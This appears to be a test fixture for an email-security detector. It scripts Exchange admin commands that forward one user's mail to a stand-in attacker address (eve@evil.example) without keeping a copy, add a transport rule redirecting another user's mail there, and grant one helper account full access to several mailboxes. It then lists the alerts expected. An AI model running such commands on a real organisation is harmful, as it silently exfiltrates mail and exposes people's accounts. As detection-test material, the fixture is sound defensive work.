# What stands at the week's end: forwarding to a newcomer and without a copy, a mail flow rule, and one account in five mailboxes.
domain fabrikam.com
person amy "Amy Adams"
person bob "Bob Brown"
person cyd "Cyd Clark"
person dan "Dan Drake"
person eli "Eli Eaton"
person fay "Fay Frost" newcomer
person helper "Help Desk" helper@fabrikam.com
person root "Rita Root" admin

mon 09:00 root runs Set-Mailbox as admin Identity="amy" ForwardingAddress="fay"
mon 09:10 root runs Set-Mailbox as admin Identity="bob@fabrikam.com" ForwardingSmtpAddress="smtp:eve@evil.example" DeliverToMailboxAndForward="True"
mon 09:20 root runs Set-Mailbox as admin Identity="bob@fabrikam.com" DeliverToMailboxAndForward="False"
mon 09:30 root runs New-TransportRule as admin Name="Archive" RedirectMessageTo="eve@evil.example" SentTo="amy@fabrikam.com"
mon 10:00 root runs Add-MailboxPermission as admin Identity="amy@fabrikam.com" User="helper@fabrikam.com" AccessRights="FullAccess"
mon 10:01 root runs Add-MailboxPermission as admin Identity="bob@fabrikam.com" User="helper@fabrikam.com" AccessRights="FullAccess"
mon 10:02 root runs Add-MailboxPermission as admin Identity="cyd@fabrikam.com" User="helper@fabrikam.com" AccessRights="FullAccess"
mon 10:03 root runs Add-RecipientPermission as admin Identity="dan@fabrikam.com" Trustee="helper@fabrikam.com" AccessRights="SendAs"
mon 10:04 root runs Add-MailboxPermission as admin Identity="eli@fabrikam.com" User="helper@fabrikam.com" AccessRights="FullAccess"
expect mailbox-forwards-to-new-account amy
expect mailbox-forwards-outside bob
expect mailbox-forwarding-keeps-no-copy bob
expect transport-rule-takes-mail root
expect mailbox-full-access-granted amy
expect mailbox-full-access-granted bob
expect mailbox-full-access-granted cyd
expect send-as-granted dan
expect mailbox-full-access-granted eli
expect trustee-of-many-mailboxes helper risk 65 says "the mailboxes of 5 people"
